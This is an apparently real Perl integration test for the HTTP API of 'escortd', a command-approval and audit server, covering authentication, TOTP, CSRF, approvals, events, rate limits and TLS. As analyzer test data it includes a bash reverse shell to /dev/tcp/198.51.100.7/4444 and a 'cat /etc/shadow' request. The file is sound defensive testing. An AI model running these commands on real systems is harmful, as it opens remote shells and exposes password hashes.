#!/usr/bin/perl
# 60-api.t — escortd over real HTTP on loopback (docs/api.md): every endpoint and every
# error code (400 naming the field, 401, 403, 404, 405, 409, 413, 415, 429), TOTP login
# with the session cookie and its CSRF rule, approvals of high risk needing a comment and
# a fresh, unused TOTP code, server-sent events seeing a change made by the CLI, slow
# clients timed out, TLS required off loopback, a trial certificate served over HTTPS,
# and a graceful stop that signs the audit log.
use strict;
use warnings;
use FindBin;
use lib "$FindBin::Bin/../lib";
use EscortTest;
use File::Temp qw(tempdir);
use HTTP::Tiny;
use IO::Socket::INET;
use IO::Select;
use JSON::PP;
use MIME::Base64 qw(encode_base64 decode_base64);
use Digest::SHA qw(hmac_sha1);
use POSIX qw(:sys_wait_h);
use Time::HiRes qw(time sleep);

# check(COND, NAME): ok() with COND in scalar context (a failed match in list context is an
# empty list, which would shift NAME into COND and pass)
sub check($$) { return ok($_[0], $_[1]) }

my $E = $ENV{ESCORT} // 'build/escort';
my $t = tempdir(CLEANUP => 1);
my $dir = "$t/data";
$ENV{ESCORT_DATA} = $dir;
delete $ENV{ESCORT_DATA_DIR};
delete $ENV{ESCORT_TOKEN};
delete $ENV{ESCORT_SERVER};

sub run { my ($tok, @args) = @_; return escort({ token => $tok }, @args) }

# ---- setup ----
my ($s, $o, $e) = run(undef, 'init', '--data', $dir);
die "init: $e" if $s;
($s, $o, $e) = run(undef, 'policy', 'load', 'examples/policy.yaml');
die "policy load: $e" if $s;
my (%tok, %sec);
for my $u (qw(op-cn op-in esc-1 esc-2 rev-1 aud-1 adm-1)) {
	($s, $o, $e) = run(undef, 'user', 'token', $u);
	chomp $o;
	die "token $u: $e" if $s;
	$tok{$u} = $o;
}
for my $u (qw(esc-1 esc-2 rev-1)) {
	($s, $o, $e) = run(undef, 'user', 'totp', $u, '--json');
	my $j = js($o);
	die "totp $u: $e" unless $s == 0 && $j;
	$sec{$u} = $j->{secret};
}
check($sec{'esc-1'} =~ /^[A-Z2-7]{32}$/, 'user totp prints a base32 secret');
($s, $o, $e) = run(undef, 'user', 'totp', 'nobody');
check($s == 4, 'user totp for an unknown identity: exit 4');

# RFC 6238 in Perl, independent of the C code
sub b32d {
	my $bits = join '', map { sprintf '%05b', index('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', $_) }
	    split //, uc shift;
	return join '', map { chr oct "0b$_" } ($bits =~ /(.{8})/g);
}
sub totp {
	my ($u, $dt) = @_;
	my $c = int((time() + ($dt // 0)) / 30);
	my $h = hmac_sha1(pack('NN', int($c / 2**32), $c % 2**32), b32d($sec{$u}));
	my $off = ord(substr($h, -1)) & 15;
	return sprintf '%06d', (unpack('N', substr($h, $off, 4)) & 0x7fffffff) % 1000000;
}

# ---- the server ----
sub start_server {
	my (@args) = @_;
	my $log = "$t/serve-" . int(rand(1e9)) . '.err';
	my $pid = fork();
	die "fork: $!" unless defined $pid;
	if ($pid == 0) {
		open(STDERR, '>', $log) or die;
		open(STDOUT, '>', '/dev/null') or die;
		exec { $E } $E, 'serve', '--data', $dir, '--no-privsep', @args or die "exec: $!";
	}
	for (1 .. 200) {
		my $l = -f $log ? slurp($log) : '';
		return ($pid, $1, $log) if $l =~ m{listening on (\S+)};
		last if waitpid($pid, WNOHANG) == $pid;
		sleep 0.05;
	}
	return ($pid, undef, $log);
}

# one worker thread: a long run must still not stall other clients
my ($pid, $url, $log) = start_server('--listen', '127.0.0.1:0', '--timeout', '2', '--threads', '1');
check(defined $url && $url =~ m{^http://127\.0\.0\.1:\d+$}, 'serve prints its URL once listening')
    or do { print "# ", slurp($log); done() };
my $api = "$url/api/v1";
my $http = HTTP::Tiny->new(timeout => 30, keep_alive => 1);

# call(METHOD, PATH, {token, body (ref -> JSON), raw, headers}) -> (status, json, response)
sub call {
	my ($m, $p, $a) = @_;
	$a //= {};
	my %h = %{ $a->{headers} // {} };
	$h{Authorization} = "Bearer $a->{token}" if defined $a->{token};
	my %opt = (headers => \%h);
	if (exists $a->{body}) {
		$opt{content} = ref $a->{body} ? encode_json($a->{body}) : $a->{body};
		$h{'Content-Type'} //= 'application/json';
	}
	my $r = $http->request($m, $p =~ /^http/ ? $p : "$api$p", \%opt);
	return ($r->{status}, js($r->{content}), $r);
}
sub err_is {
	my ($st, $j, $want, $code, $field, $name) = @_;
	my $ok = $st == $want && $j && $j->{error} && $j->{error}{code} eq $code &&
	    (!defined $field || (($j->{error}{field} // '') eq $field));
	check($ok, $name) or print "# got $st ", encode_json($j // {}), "\n";
}

# ---- authentication ----
my ($st, $j, $r) = call('GET', '/whoami');
err_is($st, $j, 401, 'unauthorized', 'Authorization', '401 without a token');
($st, $j) = call('GET', '/whoami', { token => 'esc_' . ('A' x 43) });
err_is($st, $j, 401, 'unauthorized', undef, '401 with an unknown token');
($st, $j) = call('GET', '/whoami', { headers => { Authorization => "Basic Zm9vOmJhcg==" } });
err_is($st, $j, 401, 'unauthorized', 'Authorization', '401 for a non-bearer scheme');
($st, $j, $r) = call('GET', '/whoami', { token => $tok{'op-in'} });
check($st == 200 && $j->{identity} eq 'op-in' && $j->{roles}[0] eq 'operator' &&
    $j->{attributes}{citizenship}[0] eq 'IN' && !$j->{totp_enrolled} && $j->{auth} eq 'bearer',
    'whoami: identity, roles, attributes');
check(($r->{headers}{'cache-control'} // '') eq 'no-store' &&
    $r->{headers}{'content-type'} =~ m{^application/json}, 'JSON, not cached');

# ---- create ----
($st, $j, $r) = call('POST', '/requests', { token => $tok{'op-in'},
    body => { target => 'dod-web', commands => ['systemctl restart nginx'], ticket => 'CHG-1',
              justification => 'api test' } });
check($st == 201 && $j->{id} > 0 && $j->{state} eq 'pending' && $j->{risk} eq 'medium' &&
    $r->{headers}{location} eq "/api/v1/requests/$j->{id}", '201 with the request and Location')
    or print "# $st $r->{content}\n";
my $medium = $j->{id};
check($j->{commands}[0]{text} eq 'systemctl restart nginx' &&
    decode_base64($j->{commands}[0]{text_b64}) eq 'systemctl restart nginx' &&
    $j->{commands}[0]{analysis}{risk} eq 'medium' && $j->{decision}{effect} eq 'needs-approval' &&
    length($j->{needs}{text}) > 0 && !$j->{can}{approve} && $j->{can}{cancel} && !$j->{execution},
    'request object: text, bytes, analysis, decision, needs, can');

my $bytes = "echo caf\xe9 \x01";
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => { target => 'dod-web', commands_b64 => [encode_base64($bytes, '')] } });
check($st == 201 && !defined $j->{commands}[0]{text} &&
    decode_base64($j->{commands}[0]{text_b64}) eq $bytes, 'commands_b64 keeps exact non-UTF-8 bytes');

($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => { target => 'dod-web', commands => ['cat /etc/shadow'], ticket => 'CHG-2' } });
check($st == 201 && $j->{risk} eq 'high', 'a high-risk request is pending');
my $high = $j->{id};
($st, $j) = call('POST', '/requests', { token => $tok{'op-cn'},
    body => { target => 'dod-web', commands => ['uptime'] } });
check($st == 403 && $j->{error}{code} eq 'forbidden' && $j->{error}{request} > 0 &&
    $j->{error}{message} =~ /CN/, 'denied by policy: 403 with the stored request id')
    or print "# $st ", encode_json($j // {}), "\n";
my $denied = $j->{error}{request};
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => { target => 'com-web', commands => ['uptime'] } });
check($st == 201 && $j->{state} eq 'approved', 'low risk on commercial is auto-approved');
my $auto = $j->{id};
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => { target => 'com-web', commands => ['id'] } });
my $tocancel = $j->{id};

# ---- bad input ----
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'}, body => '{"target":"dod-web",' });
err_is($st, $j, 400, 'bad_request', undef, '400 for malformed JSON');
check($j->{error}{message} =~ /line 1 column/, 'malformed JSON: where');
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'}, body => { commands => ['id'] } });
err_is($st, $j, 400, 'bad_request', 'target', '400 naming the missing field');
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => { target => 'dod-web', commands => ['id', 7] } });
err_is($st, $j, 400, 'bad_request', 'commands[1]', '400 naming the array element');
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => { target => 'dod-web', commands => ['id'], tciket => 'x' } });
err_is($st, $j, 400, 'bad_request', 'tciket', '400 naming an unknown member');
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => { target => 'dod-web', commands_b64 => ['***'] } });
err_is($st, $j, 400, 'bad_request', 'commands_b64[0]', '400 for bad base64');
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => qq({"target":"dod-web","commands":["echo \xff\xfe"]}) });
err_is($st, $j, 400, 'bad_request', undef, '400 for invalid UTF-8 in the body');
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => '{"target":"dod-web","commands":["echo \u0000x"]}' });
err_is($st, $j, 400, 'bad_request', undef, '400 for a NUL in a string');
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'}, body => ('[' x 100) . (']' x 100) });
err_is($st, $j, 400, 'bad_request', undef, '400 for deep nesting');
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => encode_json({ target => 'dod-web', commands => ['x' x (1100 * 1024)] }) });
err_is($st, $j, 413, 'too_large', undef, '413 for a body over the limit');
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'}, body => 'target=dod-web',
    headers => { 'Content-Type' => 'application/x-www-form-urlencoded' } });
err_is($st, $j, 415, 'unsupported_media_type', 'Content-Type', '415 for a form body');
($st, $j) = call('GET', '/requests?state=bogus', { token => $tok{'esc-1'} });
err_is($st, $j, 400, 'bad_request', 'state', '400 naming a bad query parameter');
($st, $j) = call('GET', '/requests?limit=0', { token => $tok{'esc-1'} });
err_is($st, $j, 400, 'bad_request', 'limit', '400 for a limit out of range');
($st, $j) = call('GET', '/requests/abc', { token => $tok{'esc-1'} });
err_is($st, $j, 400, 'bad_request', 'id', '400 for a bad id');

# ---- reading ----
($st, $j) = call('GET', '/requests', { token => $tok{'op-in'} });
check($st == 200 && @{ $j->{requests} } >= 4 && !grep({ $_->{requester} ne 'op-in' } @{ $j->{requests} }),
    'an operator lists only his own requests');
check($j->{requests}[0]{id} > $j->{requests}[-1]{id}, 'newest first');
($st, $j) = call('GET', '/requests?state=pending&limit=1', { token => $tok{'esc-1'} });
check($st == 200 && @{ $j->{requests} } == 1 && $j->{requests}[0]{state} eq 'pending' &&
    exists $j->{requests}[0]{waiting_s}, 'state filter and limit');
($st, $j) = call('GET', '/requests', { token => $tok{'esc-1'} });
check(grep({ $_->{requester} eq 'op-cn' } @{ $j->{requests} }), 'an escort sees everyone\'s');
($st, $j) = call('GET', "/requests/$denied", { token => $tok{'op-in'} });
err_is($st, $j, 404, 'not_found', undef, "an operator cannot see another's request (404)");
($st, $j) = call('GET', '/requests/999999', { token => $tok{'esc-1'} });
err_is($st, $j, 404, 'not_found', undef, '404 for no such request');
($st, $j) = call('GET', '/nosuch', { token => $tok{'esc-1'} });
err_is($st, $j, 404, 'not_found', undef, '404 for no such path');
($st, $j, $r) = call('DELETE', '/requests', { token => $tok{'esc-1'} });
err_is($st, $j, 405, 'method_not_allowed', undef, '405 for a wrong method');

# ---- actions ----
($st, $j) = call('POST', "/requests/$medium/approve", { token => $tok{'op-in'}, body => {} });
err_is($st, $j, 403, 'forbidden', undef, '403: an operator cannot approve');
($st, $j) = call('POST', "/requests/$medium/approve", { token => $tok{'esc-1'},
    body => { comment => 'restart is fine' } });
check($st == 200 && $j->{state} eq 'approved' && $j->{approvals}[0]{approver} eq 'esc-1' &&
    $j->{approvals}[0]{matches}, 'an escort approves a medium request with the token')
    or print "# $st ", encode_json($j // {}), "\n";
($st, $j) = call('POST', "/requests/$medium/approve", { token => $tok{'esc-2'}, body => {} });
err_is($st, $j, 409, 'conflict', undef, '409: already approved');
($st, $j) = call('POST', "/requests/$high/approve", { token => $tok{'rev-1'},
    body => { totp => totp('rev-1') } });
err_is($st, $j, 403, 'forbidden', 'comment', 'high risk: approval without a comment is refused');
($st, $j) = call('POST', "/requests/$high/approve", { token => $tok{'rev-1'},
    body => { comment => 'shadow read reviewed' } });
err_is($st, $j, 403, 'forbidden', 'totp', 'high risk: approval without TOTP is refused');
($st, $j) = call('POST', "/requests/$high/approve", { token => $tok{'rev-1'},
    body => { comment => 'shadow read reviewed', totp => '000000' eq totp('rev-1') ? '111111' : '000000' } });
err_is($st, $j, 403, 'forbidden', 'totp', 'high risk: a wrong TOTP code is refused');
my $code = totp('rev-1');
($st, $j) = call('POST', "/requests/$high/approve", { token => $tok{'rev-1'},
    body => { comment => 'shadow read reviewed', totp => $code } });
check($st == 200 && $j->{state} eq 'pending' && @{ $j->{approvals} } == 1 &&
    $j->{needs}{text} ne '', 'high risk: comment + TOTP accepted; one more approval needed')
    or print "# $st ", encode_json($j // {}), "\n";
($st, $j) = call('POST', "/requests/$auto/approve", { token => $tok{'rev-1'},
    body => { comment => 'again', totp => $code } });
check($st == 403 && $j->{error}{field} eq 'totp' && $j->{error}{message} =~ /already used/,
    'a TOTP code is accepted once') or print "# $st ", encode_json($j // {}), "\n";

($st, $j) = call('POST', "/requests/$medium/deny", { token => $tok{'esc-2'}, body => {} });
err_is($st, $j, 400, 'bad_request', 'comment', 'deny without a comment: 400 naming comment');
($st, $j) = call('POST', "/requests/$tocancel/deny", { token => $tok{'esc-1'},
    body => { comment => 'not today' } });
check($st == 200 && $j->{state} eq 'denied' && $j->{approvals}[0]{kind} eq 'deny', 'deny with a comment');
($st, $j) = call('POST', "/requests/$tocancel/cancel", { token => $tok{'op-in'} });
err_is($st, $j, 409, 'conflict', undef, '409: cancel a denied request');
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => { target => 'com-web', commands => ['id'] } });
my $c2 = $j->{id};
($st, $j) = call('POST', "/requests/$c2/cancel", { token => $tok{'esc-1'} });
err_is($st, $j, 403, 'forbidden', undef, "403: an escort cannot cancel an operator's request");
($st, $j) = call('POST', "/requests/$c2/cancel", { token => $tok{'op-in'} });
check($st == 200 && $j->{state} eq 'cancelled', 'the requester cancels');

($st, $j) = call('POST', "/requests/$auto/run", { token => $tok{'op-in'} });
check($st == 200 && $j->{state} eq 'succeeded' && $j->{execution}{exit_code} == 0 &&
    $j->{execution}{output} =~ /load average/ && $j->{execution}{output_redacted},
    'run: the exact command runs, output shown (redacted view for the operator)')
    or print "# $st ", encode_json($j // {}), "\n";
($st, $j) = call('POST', "/requests/$auto/run", { token => $tok{'op-in'} });
err_is($st, $j, 409, 'conflict', undef, '409: a request runs once');
($st, $j) = call('GET', "/requests/$auto", { token => $tok{'esc-1'} });
check($st == 200 && !$j->{execution}{output_redacted} && $j->{execution}{output_sha256} =~ /^[0-9a-f]{64}$/,
    'an escort sees the full output');

# ---- analysis and policy ----
($st, $j) = call('POST', '/analyze', { token => $tok{'op-in'},
    body => { command => 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' } });
check($st == 200 && $j->{risk} eq 'critical' && grep({ $_ eq 'reverse-shell' } @{ $j->{categories} }),
    'analyze: the lockbox contract');
($st, $j) = call('POST', '/analyze', { token => $tok{'op-in'}, body => { command => 'id', shell => 'zsh' } });
err_is($st, $j, 400, 'bad_request', 'shell', 'analyze: unsupported shell');
($st, $j) = call('GET', '/policy', { token => $tok{'aud-1'} });
check($st == 200 && $j->{version} == 1 && $j->{sha256} =~ /^[0-9a-f]{64}$/ && $j->{text} =~ /dod-web/,
    'policy: version, hash and text');
($st, $j) = call('POST', '/policy', { token => $tok{'adm-1'}, body => {} });
err_is($st, $j, 403, 'forbidden', undef, 'policy upload is refused over the API');
($st, $j) = call('POST', '/policy/explain', { token => $tok{'esc-1'},
    body => { identity => 'op-cn', target => 'dod-web', command => 'uptime' } });
check($st == 200 && $j->{decision}{effect} eq 'deny' && $j->{analysis}{risk}, 'policy explain');
($st, $j) = call('POST', '/policy/explain', { token => $tok{'op-in'},
    body => { identity => 'op-cn', target => 'dod-web', command => 'uptime' } });
err_is($st, $j, 403, 'forbidden', 'identity', 'an operator explains only for himself');

# ---- audit ----
($st, $j) = call('GET', '/audit/verify', { token => $tok{'op-in'} });
err_is($st, $j, 403, 'forbidden', undef, 'operators cannot read the audit log');
($st, $j) = call('GET', '/audit/verify', { token => $tok{'aud-1'} });
check($st == 200 && $j->{ok} && $j->{size} > 10 && !defined $j->{first_bad}, 'audit verify');
($st, $j) = call('GET', '/audit/checkpoint', { token => $tok{'aud-1'} });
check($st == 200 && $j->{size} > 0 && $j->{signature}, 'audit checkpoint: a signed tree head');
my $sth = $j;
($st, $j) = call('GET', "/audit/search?type=request.&request=$high", { token => $tok{'aud-1'} });
check($st == 200 && @{ $j->{events} } >= 2 &&
    !grep({ $_->{type} !~ /^request\./ || $_->{details}{request} != $high } @{ $j->{events} }),
    'audit search by type prefix and request');
($st, $j) = call('GET', '/audit/search?actor=rev-1&text=shadow', { token => $tok{'aud-1'} });
check($st == 200 && @{ $j->{events} } >= 1, 'audit search by actor and text');
($st, $j) = call('GET', '/audit/search?since=yesterday', { token => $tok{'aud-1'} });
err_is($st, $j, 400, 'bad_request', 'since', 'audit search: bad time');
($st, $j) = call('GET', '/audit/search?colour=red', { token => $tok{'aud-1'} });
err_is($st, $j, 400, 'bad_request', 'colour', 'audit search: unknown parameter');
($st, $j) = call('GET', '/audit/prove/1?from=1', { token => $tok{'aud-1'} });
check($st == 200 && $j->{inclusion}{seq} == 1 && ref $j->{inclusion}{path} eq 'ARRAY' &&
    ref $j->{consistency}{path} eq 'ARRAY' && $j->{sth}{size} == $sth->{size}, 'audit prove');
my $pf = "$t/proof.json";
($st, $j) = call('GET', '/audit/prove/1', { token => $tok{'aud-1'} });
spit($pf, encode_json($j));
($s, $o, $e) = run(undef, 'audit', 'check-proof', $pf);
check($s == 0, 'the served proof checks with escort audit check-proof') or print "# $s $o $e\n";
($st, $j) = call('GET', '/audit/prove/99999999', { token => $tok{'aud-1'} });
err_is($st, $j, 404, 'not_found', 'seq', 'audit prove beyond the tree head: 404');
($st, $j) = call('GET', '/audit/risk-series?bucket=day', { token => $tok{'aud-1'} });
check($st == 200 && @{ $j->{series} } >= 1 && $j->{series}[-1]{medium} >= 1 && $j->{series}[-1]{high} >= 1,
    'risk series for the chart') or print "# $st ", encode_json($j // {}), "\n";

($st, $j) = call('GET', '/audit/rescan', { token => $tok{'aud-1'} });
check($st == 200 && $j->{scanned} >= 5 && @{ $j->{changed} } == 0,
    'rescan with the rules of the time: nothing changed') or print "# $st ", encode_json($j // {}), "\n";
($st, $j) = call('GET', '/audit/pubkey', { token => $tok{'aud-1'} });
check($st == 200 && $j->{algorithm} eq 'ed25519' && $j->{public_key}, 'audit pubkey');

# ---- console login, cookie, CSRF ----
($st, $j) = call('POST', '/login', { body => { token => $tok{'esc-1'} } });
err_is($st, $j, 401, 'unauthorized', 'totp', 'an escort needs TOTP to log in');
my $lc = totp('esc-1');
($st, $j, $r) = call('POST', '/login', { body => { token => $tok{'esc-1'}, totp => $lc } });
my $cookie = $r->{headers}{'set-cookie'} // '';
check($st == 200 && $j->{identity} eq 'esc-1' && $j->{csrf} =~ /^[0-9a-f]{64}$/, 'login with token + TOTP')
    or print "# $st $r->{content}\n";
check($cookie =~ /^escort_session=[0-9a-f]{64};/ && $cookie =~ /HttpOnly/ && $cookie =~ /Secure/ &&
    $cookie =~ /SameSite=Strict/, 'session cookie: HttpOnly, Secure, SameSite=Strict');
my $csrf = $j->{csrf};
my ($sid) = $cookie =~ /^(escort_session=[0-9a-f]{64})/;
($st, $j) = call('POST', '/login', { body => { token => $tok{'esc-1'}, totp => $lc } });
err_is($st, $j, 401, 'unauthorized', 'totp', 'a login code cannot be replayed');
($st, $j) = call('POST', '/login', { body => { token => $tok{'op-in'} } });
check($st == 200 && $j->{identity} eq 'op-in', 'an operator logs in with the token only');
($st, $j) = call('GET', '/whoami', { headers => { Cookie => $sid } });
check($st == 200 && $j->{identity} eq 'esc-1' && $j->{auth} eq 'session' && $j->{csrf} eq $csrf,
    'the cookie authenticates; whoami repeats the CSRF token');
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => { target => 'dod-web', commands => ['systemctl restart nginx'] } });
my $m2 = $j->{id};
($st, $j) = call('POST', "/requests/$m2/approve", { headers => { Cookie => $sid }, body => {} });
err_is($st, $j, 403, 'forbidden', 'X-CSRF-Token', 'a cookie write without the CSRF token is refused');
($st, $j) = call('POST', "/requests/$m2/approve",
    { headers => { Cookie => $sid, 'X-CSRF-Token' => 'f' x 64 }, body => {} });
err_is($st, $j, 403, 'forbidden', 'X-CSRF-Token', 'a wrong CSRF token is refused');
($st, $j) = call('POST', "/requests/$m2/approve",
    { headers => { Cookie => $sid, 'X-CSRF-Token' => $csrf }, body => { comment => 'ok' } });
check($st == 200 && $j->{state} eq 'approved', 'with the CSRF token and a fresh login TOTP: approved')
    or print "# $st ", encode_json($j // {}), "\n";
SKIP: {
	my $sqlx = ($ENV{BUILD} // 'build') . '/tools/sqlexec';
	if (!-x $sqlx) { check(1, 'skip: no sqlexec for the TOTP age check'); check(1, 'skip'); last SKIP }
	# the login's TOTP proof is now six minutes old
	system($sqlx, "$dir/escort.db", 'UPDATE sessions SET totp_us = totp_us - 360000000') == 0 or die;
	($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
	    body => { target => 'dod-web', commands => ['systemctl restart nginx'] } });
	my $m3 = $j->{id};
	($st, $j) = call('POST', "/requests/$m3/approve",
	    { headers => { Cookie => $sid, 'X-CSRF-Token' => $csrf }, body => { comment => 'ok' } });
	err_is($st, $j, 403, 'forbidden', 'totp', 'a session TOTP older than 5 minutes no longer approves');
	($st, $j) = call('POST', "/requests/$m3/approve",
	    { headers => { Cookie => $sid, 'X-CSRF-Token' => $csrf }, body => { comment => 'ok', totp => totp('esc-1', 30) } });
	check($st == 200 && $j->{state} eq 'approved', 'a fresh code in the body approves (and refreshes the session)')
	    or print "# $st ", encode_json($j // {}), "\n";
}
($st, $j) = call('POST', '/totp/enroll', { headers => { Cookie => $sid, 'X-CSRF-Token' => $csrf } });
err_is($st, $j, 403, 'forbidden', undef, 'TOTP enrolment needs the bearer token');
($st, $j) = call('POST', '/totp/enroll', { token => $tok{'aud-1'} });
check($st == 200 && $j->{secret} =~ /^[A-Z2-7]{32}$/ && $j->{uri} =~ m{^otpauth://totp/escort:aud-1\?secret=},
    'self-enrolment with the token');
($st, $j) = call('POST', '/logout', { headers => { Cookie => $sid, 'X-CSRF-Token' => $csrf } });
check($st == 200, 'logout');
($st, $j) = call('GET', '/whoami', { headers => { Cookie => $sid } });
err_is($st, $j, 401, 'unauthorized', undef, 'the session is gone after logout');

# ---- server-sent events: a change made by the CLI arrives ----
my ($port) = $url =~ /:(\d+)$/;
my $sock = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $port, Timeout => 5);
print $sock "GET /api/v1/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer $tok{'esc-2'}\r\n" .
    "Accept: text/event-stream\r\n\r\n";
my $sse = '';
my $sel = IO::Select->new($sock);
my $deadline = time() + 3;
while (time() < $deadline && $sse !~ /: connected/) {
	last unless $sel->can_read(0.2) || 1;
	my $n = sysread($sock, my $chunk, 65536);
	$sse .= $chunk if $n;
}
check($sse =~ m{^HTTP/1\.1 200} && $sse =~ m{text/event-stream}, 'events: a stream opens');
($s, $o, $e) = run($tok{'op-in'}, 'request', 'create', '--json', '--target', 'dod-web', '--', 'uptime');
my $cli_id = (js($o) // {})->{id} // -1;
my $t0 = time();
$deadline = $t0 + 3;
while (time() < $deadline && $sse !~ /"id":$cli_id,/) {
	next unless $sel->can_read(0.1);
	my $n = sysread($sock, my $chunk, 65536);
	last unless $n;
	$sse .= $chunk;
}
my $lat = time() - $t0;
check($sse =~ /event: request\r?\n(id: \d+\r?\n)?data: \{[^\n]*"id":$cli_id,[^\n]*"state":"pending"/,
    sprintf('events: the CLI\'s new request arrives (%.2f s)', $lat)) or print "# $sse\n";
check($lat < 2, 'events: within about a second');
($s, $o, $e) = run($tok{'op-in'}, 'request', 'create', '--json', '--target', 'com-web', '--', 'true');
my $rid = (js($o) // {})->{id} // -1;
($s, $o, $e) = run($tok{'op-in'}, 'request', 'run', $rid);
$deadline = time() + 3;
sub states_of { my ($id) = @_; map { $_->{state} } grep { $_ && $_->{id} == $id } map { js($_) } $sse =~ /^data: (.*)$/mg }
while (time() < $deadline && !grep { $_ eq 'succeeded' } states_of($rid)) {
	next unless $sel->can_read(0.1);
	my $n = sysread($sock, my $chunk, 65536);
	last unless $n;
	$sse .= $chunk;
}
my @states = states_of($rid);
check(scalar(join(',', @states) =~ /running,succeeded$/), "events: a CLI run shows running then succeeded (@states)")
    or print "# $sse\n";

# ---- slow clients ----
my $slow = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $port, Timeout => 5);
print $slow "GET /api/v1/whoami HTTP/1.1\r\nHost: x\r\n";
my $sel2 = IO::Select->new($slow);
my $closed = 0;
$deadline = time() + 6;
while (time() < $deadline) {
	next unless $sel2->can_read(0.2);
	my $n = sysread($slow, my $b, 4096);
	if (!$n) { $closed = 1; last }
}
check($closed, 'a client that stops mid-request is disconnected (--timeout 2)');

# ---- rate limit ----
my $limited = 0;
for (1 .. 200) {
	($st, $j, $r) = call('GET', '/whoami', { token => $tok{'adm-1'} });
	if ($st == 429) { $limited = $r; last }
}
check($limited && ($limited->{headers}{'retry-after'} // '') eq '1' &&
    js($limited->{content})->{error}{code} eq 'rate_limited', '429 with Retry-After past the per-identity rate');
($st, $j) = call('GET', '/whoami', { token => $tok{'aud-1'} });
check($st == 200, 'the limit is per identity');

# ---- a long run neither stalls other clients nor is cut short by a stop ----
($st, $j) = call('POST', '/requests', { token => $tok{'op-in'},
    body => { target => 'com-web', commands => ['sleep 1.5; echo slept'] } });
check($st == 201 && $j->{state} eq 'approved', 'a slow command, auto-approved') or print "# $st\n";
my $slowid = $j->{id};
my $runout = "$t/run.json";
my $kid = fork();
if ($kid == 0) {
	my $h = HTTP::Tiny->new(timeout => 30);
	my $rr = $h->request('POST', "$api/requests/$slowid/run",
	    { headers => { Authorization => "Bearer $tok{'op-in'}" } });
	spit($runout, "$rr->{status}\n$rr->{content}");
	exit 0;
}
sleep 0.4;
my $t1 = time();
($st, $j) = call('GET', '/whoami', { token => $tok{'aud-1'} });
my $t2 = time() - $t1;
check($st == 200 && $t2 < 0.5, sprintf('other calls are served during a run (%.3f s, one worker thread)', $t2));

# ---- graceful stop ----
kill 'TERM', $pid;
waitpid($pid, 0);
my $rc = $? >> 8;
my $l = slurp($log);
check($rc == 0 && $l =~ /stopped; audit tree head signed/ && $l !~ /runtime error|Sanitizer/,
    'SIGTERM: clean stop, tree head signed (and no sanitizer report)')
    or print "# rc $rc: $l\n";
close $sock;
waitpid($kid, 0);
my ($rs, $rbody) = split /\n/, slurp($runout), 2;
my $rj = js($rbody) // {};
check($rs == 200 && $rj->{state} eq 'succeeded' && $rj->{execution}{output} =~ /slept/,
    'the run in flight at SIGTERM finished and was answered') or print "# $rs $rbody\n";
($s, $o, $e) = run(undef, 'audit', 'verify');
check($s == 0, 'the audit log verifies after the server stopped') or print "# $o $e\n";
($s, $o, $e) = run(undef, 'audit', 'search', '--type', 'server.stopped');
check($s == 0 && $o =~ /server\.stopped/, 'server.stopped is in the audit log');

# ---- TLS ----
($s, $o, $e) = run(undef, 'serve', '--data', $dir, '--no-privsep', '--listen', '0.0.0.0:0');
check($s == 2 && $e =~ /without TLS/, 'a non-loopback address without TLS is refused');
mkdir "$t/tls";
($s, $o, $e) = run(undef, 'serve', '--make-cert', "$t/tls", '--cn', 'escort.test');
check($s == 0 && -f "$t/tls/cert.pem" && ((stat "$t/tls/key.pem")[2] & 077) == 0,
    '--make-cert writes a certificate and a private key only the owner reads');
($s, $o, $e) = run(undef, 'serve', '--make-cert', "$t/tls");
check($s != 0, '--make-cert never overwrites');
SKIP: {
	my ($curl) = grep { -x $_ } qw(/usr/bin/curl /usr/local/bin/curl);
	if (!$curl) { check(1, 'skip: no curl for the HTTPS check'); last SKIP }
	# this server runs with other (test fixture) rules: the retro-hunt finds differences
	local $ENV{ESCORT_RULES} = 'tests/fixtures/rules';
	my ($p2, $u2, $l2) = start_server('--listen', '127.0.0.1:0', '--tls-cert', "$t/tls/cert.pem",
	    '--tls-key', "$t/tls/key.pem");
	my $out = defined $u2 ? `$curl -s --cacert $t/tls/cert.pem -H 'Authorization: Bearer $tok{'aud-1'}' $u2/api/v1/whoami` : '';
	check(defined $u2 && $u2 =~ /^https:/ && (js($out) // {})->{identity} eq 'aud-1',
	    'HTTPS with the trial certificate (curl verifies it)') or print "# ", slurp($l2), " $out\n";
	$out = defined $u2 ? `$curl -s --cacert $t/tls/cert.pem -H 'Authorization: Bearer $tok{'aud-1'}' '$u2/api/v1/audit/rescan'` : '';
	my $rs = js($out) // {};
	check(ref $rs->{changed} eq 'ARRAY' && @{ $rs->{changed} } > 0 &&
	    defined $rs->{changed}[0]{request} && exists $rs->{changed}[0]{worse},
	    'rescan under other rules lists the requests whose analysis changed') or print "# $out\n";
	(my $plain = $u2 // '') =~ s/^https:/http:/;
	$out = $plain ? `$curl -s -m 5 -o /dev/null -w '%{http_code}' -H 'Authorization: Bearer $tok{'aud-1'}' $plain/api/v1/whoami` : '';
	check($out ne '200', "plain HTTP is not served on the TLS port ($out)");
	kill 'TERM', $p2;
	waitpid($p2, 0);
}

done();
